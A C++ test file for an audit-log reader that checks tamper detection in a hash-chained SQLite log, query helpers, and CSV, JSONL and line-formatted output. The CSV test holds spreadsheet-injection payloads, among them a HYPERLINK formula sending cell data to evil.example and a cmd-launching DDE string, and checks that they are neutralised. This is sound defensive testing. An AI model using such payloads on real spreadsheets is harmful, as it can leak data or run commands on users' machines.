#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include <doctest/doctest.h>
#include <SQLiteCpp/Database.h>
#include <SQLiteCpp/Exception.h>

#include "src/audit/audit_reader.hpp"
#include "src/audit/sqlite_audit_log.hpp"
#include "tests/audit/audit_test_support.hpp"

using opsgate::Errc;
using opsgate::audit::SqliteAuditLog;
using namespace opsgate::audit::test;
namespace audit = opsgate::audit;

namespace {

// Writes `n` events (request ids r1..rn) and closes the log, so the file is
// left exactly as a stopped daemon would leave it.
void write_log(const std::string& path, int n) {
  FixedClock clock(kTestNowMs);
  auto log = SqliteAuditLog::open(path, clock);
  REQUIRE(log.has_value());
  std::vector<opsgate::AuditEvent> events;
  for (int i = 1; i <= n; ++i) {
    // One at a time so seq i has request id ri.
    auto seq = append_one(**log, make_event("r" + std::to_string(i), "received", {{"i", i}}, "event " + std::to_string(i)));
    REQUIRE(seq.has_value());
    REQUIRE(*seq == i);
  }
}

audit::VerifyReport verify_ok_or_fail(const std::string& path) {
  auto report = audit::verify(path);
  REQUIRE_MESSAGE(report.has_value(), (report ? std::string() : report.error().message));
  return *report;
}

}  // namespace

TEST_SUITE("audit/audit_reader") {
  TEST_CASE("verify accepts a clean log and reports its head") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    write_log(path, 8);
    auto report = verify_ok_or_fail(path);
    CHECK(report.ok);
    CHECK(report.count == 8);
    CHECK(report.first_bad_seq == 0);
    CHECK(report.reason.empty());
    auto last = audit::by_seq(path, 8);
    REQUIRE(last.has_value());
    CHECK(report.head_hash == last->hash);
  }

  TEST_CASE("verify accepts an empty log") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    write_log(path, 0);
    auto report = verify_ok_or_fail(path);
    CHECK(report.ok);
    CHECK(report.count == 0);
    CHECK(report.head_hash == std::string(64, '0'));
  }

  TEST_CASE("the triggers refuse UPDATE and DELETE") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    write_log(path, 3);
    SQLite::Database db(path, SQLite::OPEN_READWRITE);
    CHECK_THROWS_WITH_AS(db.exec("UPDATE audit_events SET detail = 'x' WHERE seq = 2"),
                         doctest::Contains("append-only"), SQLite::Exception);
    CHECK_THROWS_WITH_AS(db.exec("DELETE FROM audit_events WHERE seq = 2"), doctest::Contains("append-only"),
                         SQLite::Exception);
    CHECK(verify_ok_or_fail(path).ok);
  }

  TEST_CASE("an edited row is named by verify") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    write_log(path, 8);
    exec_sql(path, "DROP TRIGGER audit_events_no_update; UPDATE audit_events SET detail = 'nothing happened' WHERE seq = 5;");
    auto report = verify_ok_or_fail(path);
    CHECK_FALSE(report.ok);
    CHECK(report.first_bad_seq == 5);
    CHECK(report.reason == "seq 5: hash does not match its contents (the row was edited)");
    CHECK(report.count == 5);
  }

  TEST_CASE("a deleted row is named by the row after the gap") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    write_log(path, 8);
    exec_sql(path, "DROP TRIGGER audit_events_no_delete; DELETE FROM audit_events WHERE seq = 4;");
    auto report = verify_ok_or_fail(path);
    CHECK_FALSE(report.ok);
    CHECK(report.first_bad_seq == 5);
    CHECK(report.reason == "seq 5: expected seq 4 (a row was deleted or reordered)");
  }

  TEST_CASE("deleting the first rows is detected") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    write_log(path, 4);
    exec_sql(path, "DROP TRIGGER audit_events_no_delete; DELETE FROM audit_events WHERE seq <= 2;");
    auto report = verify_ok_or_fail(path);
    CHECK_FALSE(report.ok);
    CHECK(report.first_bad_seq == 3);
  }

  TEST_CASE("swapping the contents of two rows is named at the first of them") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    write_log(path, 8);
    exec_sql(path, R"sql(
      DROP TRIGGER audit_events_no_update;
      CREATE TEMP TABLE saved AS SELECT * FROM audit_events WHERE seq IN (3, 6);
      UPDATE audit_events
         SET (ts_ms, request_id, kind, platform, channel, principal, action, params, outcome, detail, prev_hash, hash) =
             (SELECT ts_ms, request_id, kind, platform, channel, principal, action, params, outcome, detail, prev_hash, hash
                FROM saved WHERE saved.seq = CASE audit_events.seq WHEN 3 THEN 6 ELSE 3 END)
       WHERE seq IN (3, 6);
    )sql");
    auto moved = audit::by_seq(path, 3);
    REQUIRE(moved.has_value());
    REQUIRE(moved->request_id == "r6");
    auto report = verify_ok_or_fail(path);
    CHECK_FALSE(report.ok);
    CHECK(report.first_bad_seq == 3);
    CHECK(report.reason == "seq 3: prev_hash does not match seq 2's hash");
  }

  TEST_CASE("swapping only the payload of two rows, hashes left in place, is named at the first of them") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    write_log(path, 8);
    exec_sql(path, R"sql(
      DROP TRIGGER audit_events_no_update;
      CREATE TEMP TABLE saved AS SELECT * FROM audit_events WHERE seq IN (3, 6);
      UPDATE audit_events
         SET (request_id, params, detail) =
             (SELECT request_id, params, detail FROM saved
               WHERE saved.seq = CASE audit_events.seq WHEN 3 THEN 6 ELSE 3 END)
       WHERE seq IN (3, 6);
    )sql");
    auto report = verify_ok_or_fail(path);
    CHECK_FALSE(report.ok);
    CHECK(report.first_bad_seq == 3);
    CHECK(report.reason == "seq 3: hash does not match its contents (the row was edited)");
  }

  TEST_CASE("params edited into invalid JSON is reported, not thrown") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    write_log(path, 3);
    exec_sql(path, "DROP TRIGGER audit_events_no_update; UPDATE audit_events SET params = '{oops' WHERE seq = 2;");
    auto report = verify_ok_or_fail(path);
    CHECK_FALSE(report.ok);
    CHECK(report.first_bad_seq == 2);
    CHECK(report.reason == "seq 2: params is not valid JSON (the row was edited)");
    auto events = audit::tail(path, 10);  // the damaged row can still be read
    REQUIRE(events.has_value());
    CHECK(events->size() == 3);
    auto targets = audit::recent_for_target(path, "cart", 10);  // and does not break json_extract
    CHECK(targets.has_value());
  }

  TEST_CASE("tail returns the newest n, oldest first") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    write_log(path, 5);
    auto events = audit::tail(path, 2);
    REQUIRE(events.has_value());
    REQUIRE(events->size() == 2);
    CHECK((*events)[0].seq == 4);
    CHECK((*events)[1].seq == 5);
    CHECK((*events)[1].detail == "event 5");
    CHECK((*events)[1].params == nlohmann::json{{"i", 5}});
    auto all = audit::tail(path, 100);
    REQUIRE(all.has_value());
    CHECK(all->size() == 5);
    auto none = audit::tail(path, 0);
    REQUIRE(none.has_value());
    CHECK(none->empty());
  }

  TEST_CASE("by_request, by_seq and recent_for_target return the right rows") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    FixedClock clock(kTestNowMs);
    {
      auto log = SqliteAuditLog::open(path, clock);
      REQUIRE(log.has_value());
      const std::vector<std::pair<std::string, std::string>> rows = {
          {"a", "cart"}, {"b", "search"}, {"a", "cart"}, {"c", "cart"}, {"d", "frontend"}};
      for (const auto& [request, target] : rows) {
        REQUIRE(append_one(**log, make_event(request, "received", {{"target", target}, {"env", "staging"}})));
      }
      opsgate::AuditEvent no_target = make_event("e", "received", nlohmann::json::array({"cart"}));
      REQUIRE(append_one(**log, no_target));
    }

    auto a = audit::by_request(path, "a");
    REQUIRE(a.has_value());
    REQUIRE(a->size() == 2);
    CHECK((*a)[0].seq == 1);
    CHECK((*a)[1].seq == 3);
    auto missing = audit::by_request(path, "zzz");
    REQUIRE(missing.has_value());
    CHECK(missing->empty());

    auto second = audit::by_seq(path, 2);
    REQUIRE(second.has_value());
    CHECK(second->request_id == "b");
    CHECK(second->params["target"] == "search");
    auto absent = audit::by_seq(path, 99);
    REQUIRE_FALSE(absent.has_value());
    CHECK(absent.error().code == Errc::not_found);

    auto cart = audit::recent_for_target(path, "cart", 10);
    REQUIRE(cart.has_value());
    REQUIRE(cart->size() == 3);
    CHECK((*cart)[0].seq == 1);
    CHECK((*cart)[1].seq == 3);
    CHECK((*cart)[2].seq == 4);
    auto newest_cart = audit::recent_for_target(path, "cart", 1);
    REQUIRE(newest_cart.has_value());
    REQUIRE(newest_cart->size() == 1);
    CHECK((*newest_cart)[0].seq == 4);
  }

  TEST_CASE("a missing file is a clear error, not an empty log") {
    TempDir dir;
    const std::string path = dir.file("nothing-here.db");
    auto events = audit::tail(path, 5);
    REQUIRE_FALSE(events.has_value());
    CHECK(events.error().message == "no audit log at " + path + ": start opsgate once or check storage.path");
    auto report = audit::verify(path);
    REQUIRE_FALSE(report.has_value());
    CHECK_FALSE(std::filesystem::exists(path));  // reading never creates the file
  }

  TEST_CASE("a file that is not an audit log is a storage error naming it") {
    TempDir dir;
    const std::string path = dir.file("other.db");
    SQLite::Database(path, SQLite::OPEN_READWRITE | SQLite::OPEN_CREATE).exec("CREATE TABLE unrelated(x)");
    auto report = audit::verify(path);
    REQUIRE_FALSE(report.has_value());
    CHECK(report.error().code == Errc::storage);
    CHECK(report.error().message.find(path) != std::string::npos);

    const std::string text = dir.file("notes.txt");
    std::ofstream(text) << "this is not a database, just some text that is long enough to have a header";
    auto garbage = audit::tail(text, 1);
    REQUIRE_FALSE(garbage.has_value());
    CHECK(garbage.error().code == Errc::storage);
    CHECK(garbage.error().message.find(text) != std::string::npos);
  }

  TEST_CASE("CSV export quotes commas, quotes and newlines") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    FixedClock clock(kTestNowMs);
    {
      auto log = SqliteAuditLog::open(path, clock);
      REQUIRE(log.has_value());
      REQUIRE(append_one(**log, make_event("r1", "finished", {{"target", "cart"}}, "a,b \"c\"\nd")));
    }
    std::ostringstream out;
    REQUIRE(audit::export_csv(path, out).has_value());
    const std::string csv = out.str();
    CHECK(csv.rfind("seq,time,ts_ms,request_id,kind,platform,channel,principal,action,params,outcome,detail,prev_hash,"
                    "hash\r\n",
                    0) == 0);
    CHECK(csv.find(",\"a,b \"\"c\"\"\nd\",") != std::string::npos);
    CHECK(csv.find(",\"{\"\"target\"\":\"\"cart\"\"}\",") != std::string::npos);
    CHECK(csv.find("\r\n1,2026-11-25T13:01:02.123Z,1795611662123,r1,finished,shell,local,shell:alice,restart,") !=
          std::string::npos);
  }

  TEST_CASE("CSV export turns cells a spreadsheet would run as formulas into quoted text (OWASP CSV injection)") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    FixedClock clock(kTestNowMs);
    const std::vector<std::string> details = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
                                              "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"};
    {
      auto log = SqliteAuditLog::open(path, clock);
      REQUIRE(log.has_value());
      for (std::size_t i = 0; i < details.size(); ++i) {
        REQUIRE(append_one(**log, make_event("r" + std::to_string(i), "finished", {{"target", "cart"}}, details[i])));
      }
      REQUIRE(append_one(**log, make_event("r9", "finished", {{"target", "cart"}}, "restarted 2 pods")));
    }
    std::ostringstream out;
    REQUIRE(audit::export_csv(path, out).has_value());
    const std::string csv = out.str();
    INFO(csv);
    CHECK(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",") != std::string::npos);
    CHECK(csv.find(",\"'+1+cmd|' /C calc'!A0\",") != std::string::npos);
    CHECK(csv.find(",\"'-2+3\",") != std::string::npos);
    CHECK(csv.find(",\"'@SUM(1+1)\",") != std::string::npos);
    CHECK(csv.find(",\"'\t=1+1\",") != std::string::npos);
    CHECK(csv.find(",\"'\r=1+1\",") != std::string::npos);
    CHECK(csv.find(",restarted 2 pods,") != std::string::npos);
    // No cell starts with a formula character.
    for (const char* bad : {",=", ",+", ",-", ",@", ",\t", ",\r="}) {
      CHECK(csv.find(bad) == std::string::npos);
    }
  }

  TEST_CASE("JSONL export writes one parseable object per event, even from invalid UTF-8") {
    TempDir dir;
    const std::string path = dir.file("audit.db");
    FixedClock clock(kTestNowMs);
    {
      auto log = SqliteAuditLog::open(path, clock);
      REQUIRE(log.has_value());
      REQUIRE(append_one(**log, make_event("r1", "received", {{"target", "cart"}}, "fine")));
      REQUIRE(append_one(**log, make_event("r2", "received", {{"x", "\xff"}}, "broken \xc3 text")));
    }
    std::ostringstream out;
    REQUIRE(audit::export_jsonl(path, out).has_value());
    std::istringstream lines(out.str());
    std::string line;
    std::vector<nlohmann::json> parsed;
    while (std::getline(lines, line)) {
      auto j = nlohmann::json::parse(line, nullptr, false);
      REQUIRE_FALSE(j.is_discarded());
      parsed.push_back(j);
    }
    REQUIRE(parsed.size() == 2);
    CHECK(parsed[0]["seq"] == 1);
    CHECK(parsed[0]["params"]["target"] == "cart");
    CHECK(parsed[1]["request_id"] == "r2");
    CHECK(parsed[1]["hash"].get<std::string>().size() == 64);
  }

  TEST_CASE("format_event_line gives one readable UTC line") {
    opsgate::AuditEvent event = make_event("ab12", "received", {{"target", "cart"}, {"env", "staging"}}, "detail");
    event.seq = 12;
    event.ts_ms = kTestNowMs;
    CHECK(audit::format_event_line(event) ==
          "2026-11-25T13:01:02.123Z #12 req=ab12 received shell:alice restart {\"env\":\"staging\",\"target\":\"cart\"} "
          "ok \xe2\x80\x94 detail");
  }

  TEST_CASE("format_event_line leaves out empty fields and escapes terminal control characters") {
    opsgate::AuditEvent event;
    event.seq = 3;
    event.ts_ms = 0;
    event.kind = "received";
    event.detail = "line one\nline two \x1b[31mred\x1b[0m \xc2\x9b" "2J";
    CHECK(audit::format_event_line(event) ==
          "1970-01-01T00:00:00.000Z #3 req=- received \xe2\x80\x94 line one\\nline two \\x1b[31mred\\x1b[0m \\u009b2J");
  }

  TEST_CASE("times before 1970 still format with a positive fraction") {
    CHECK(audit::format_utc_ms(-1) == "1969-12-31T23:59:59.999Z");
  }
}
